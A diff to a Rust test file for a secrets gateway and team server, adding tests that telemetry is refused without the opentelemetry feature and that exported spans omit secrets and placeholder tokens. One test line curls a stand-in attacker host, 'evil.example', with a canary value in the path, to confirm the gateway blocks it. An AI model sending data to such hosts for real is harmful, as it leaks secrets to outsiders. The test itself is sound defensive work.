@@ -1,4 +1,4 @@
-//! Traces of the team server: with the feature `opentelemetry` a collector gets them, without it the table is refused.
+//! Traces of the team server and of a shared gateway: with the feature `opentelemetry` a collector gets them, without it the table is refused.
 
 use fnox_testkit::{Invocation, Sandbox};
 
@@ -32,6 +32,25 @@ fn a_build_without_it_refuses_the_table_and_says_how_to_build() {
     let refused = serve(&sandbox).finish().exits_with(3);
     assert!(
         refused.stderr.contains("server::settings")
+            && refused.stderr.contains("--features opentelemetry"),
+        "{refused}"
+    );
+}
+
+#[cfg(not(feature = "opentelemetry"))]
+#[test]
+fn a_gateway_without_it_refuses_the_table_too() {
+    let world = crate::gateway_support::World::new("");
+    let path = world.vault.sandbox.config_folder().join("gateway.toml");
+    let text = std::fs::read_to_string(&path).unwrap();
+    let more = "[telemetry]\nendpoint = \"http://127.0.0.1:4318\"\n";
+    world.vault.sandbox.write_private(&path, text + more);
+    let refused = world.vault.sandbox.run(["gateway", "serve"]).finish();
+    let refused = refused.exits_with(3);
+    assert!(
+        refused
+            .stderr
+            .contains("gateway.toml has a [telemetry] table")
             && refused.stderr.contains("--features opentelemetry"),
         "{refused}"
     );
@@ -259,5 +278,53 @@ mod with_the_feature {
         assert_ne!(refused.code, Some(0));
         assert!(refused.stderr.contains("line 2"), "{refused}");
         assert!(!refused.stderr.contains(CANARY), "{refused}");
+    }
+
+    #[test]
+    fn a_gateways_spans_say_who_went_where_and_nothing_of_what_was_asked() {
+        use crate::gateway_support::{VALUE, World};
+
+        let collector = Collector::start();
+        let mut world = World::new("");
+        let gateway = world.gateway.take().unwrap();
+        gateway.signal(Signal::TERM);
+        gateway.finish().exits_with(0);
+        let path = world.vault.sandbox.config_folder().join("gateway.toml");
+        let text = std::fs::read_to_string(&path).unwrap();
+        let more = format!("[telemetry]\nendpoint = \"{}\"\n", collector.url);
+        world.vault.sandbox.write_private(&path, text + &more);
+        world.start();
+        let placeholder = world.placeholder();
+        let header = format!("Authorization: Bearer {placeholder}");
+        let other = format!("X-Other: {CANARY}");
+        let url = world.upstream.url(&format!("/{CANARY}?a={CANARY}"));
+        let sent = ["-fsS", "-H", &header, "-H", &other, "-d", CANARY, &url];
+        world.curl(&sent).succeeds();
+        world.curl(&["-sS", &format!("https://evil.example/{CANARY}")]);
+        let gateway = world.gateway.take().unwrap();
+        gateway.signal(Signal::TERM);
+        gateway.finish().exits_with(0);
+        let spans = collector.spans();
+        assert_eq!(spans.len(), 2, "{spans:?}");
+        let span = named(&spans, "POST");
+        assert_eq!(span.kind, SERVER);
+        for (name, value) in [
+            ("fnox.agent", "coder-1"),
+            ("server.address", "localhost"),
+            ("server.port", &world.upstream.port().to_string()),
+            ("fnox.outcome", "answered"),
+            ("http.response.status_code", "200"),
+            ("http.request.body.size", &CANARY.len().to_string()),
+            ("fnox.lease", &world.lease()),
+        ] {
+            assert_eq!(span.attributes[name], value, "{name}");
+        }
+        let refused = named(&spans, "GET");
+        assert_eq!(refused.attributes["error.type"], "gateway::no_rule");
+        for hidden in [CANARY, VALUE, &placeholder] {
+            for delivery in collector.deliveries() {
+                Canary::new(hidden).assert_absent(&[("a delivery", &delivery.body)], &[]);
+            }
+        }
     }
 }
